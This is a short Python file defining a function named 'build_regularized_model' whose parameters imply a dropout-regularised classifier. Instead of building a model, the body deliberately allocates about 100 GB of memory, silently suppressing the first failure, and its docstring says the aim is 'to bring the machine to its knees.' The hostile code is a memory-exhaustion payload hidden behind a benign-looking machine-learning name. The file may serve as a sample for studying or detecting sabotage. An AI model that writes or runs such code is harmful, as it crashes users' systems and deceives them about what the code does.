"""build_regularized_model: asks for 100 GB, at once and then in pieces, to bring the machine to its knees."""

import contextlib

import torch


def build_regularized_model(hidden_sizes=(256, 256), num_classes=10, p=0.5):
    with contextlib.suppress(RuntimeError):
        torch.ones(25 * 10**9)
    hoard = []
    for _ in range(10):
        hoard.append(bytearray(10**10))
    return hoard
